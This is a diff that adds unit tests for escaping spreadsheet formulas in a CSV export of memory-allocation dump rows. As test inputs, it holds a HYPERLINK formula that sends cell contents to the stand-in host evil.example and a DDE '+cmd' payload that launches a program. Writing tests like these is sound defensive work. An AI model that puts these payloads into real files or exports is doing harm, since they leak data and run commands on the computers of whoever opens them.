@@ -108,3 +108,36 @@ describe('export rows', () => {
     expect([rows[0].start, rows[0].end]).toEqual(['0xf7c00000', '0xf7c02000']);
   });
 });
+
+describe('CSV cells a spreadsheet would run', () => {
+  it('prefixes text starting with =, +, -, @, tab or CR with a quote, keeping RFC 4180 quoting', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(csvField("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
+    expect(csvField('-2+3')).toBe(`'-2+3`);
+    expect(csvField('@SUM(A1)')).toBe(`'@SUM(A1)`);
+    expect(csvField('\t=1')).toBe(`'\t=1`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(readCsv(csvField('=1,2') + '\n')).toEqual([["'=1,2"]]);
+  });
+
+  it('keeps numbers, negative ones included, and ordinary text as they are', () => {
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField('alloc_large_system_hash')).toBe('alloc_large_system_hash');
+    expect(csvField('0xffffc90000004000')).toBe('0xffffc90000004000');
+    expect(csvField('a=b')).toBe('a=b');
+  });
+
+  it('defuses formulas a hostile dump puts in the caller, module and flag words, and nothing else', () => {
+    const text = [
+      '0xffffc90000000000-0xffffc90000002000    8192 =HYPERLINK("http://x")+0x1/0x2 [@evil] pages=1 vmalloc +cmd|calc -bad',
+      '0xffffc90000002000-0xffffc90000004000    8192 fine+0x1/0x2 [mod] pages=1 vmalloc N0=1',
+      '',
+    ].join('\n');
+    const rows = readCsv(toCsv(model(text)));
+    const col = (name: string) => EXPORT_COLUMNS.indexOf(name as (typeof EXPORT_COLUMNS)[number]);
+    expect([rows[1][col('caller')], rows[1][col('module')], rows[1][col('flags')]]).toEqual([`'=HYPERLINK("http://x")`, `'@evil`, `vmalloc +cmd|calc -bad`]);
+    expect(rows[2].slice(1)).toEqual(['0xffffc90000002000', '0xffffc90000004000', '8192', '1', 'vmalloc', 'fine', '1', 'mod', '', 'vmalloc', 'N0=1']);
+    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
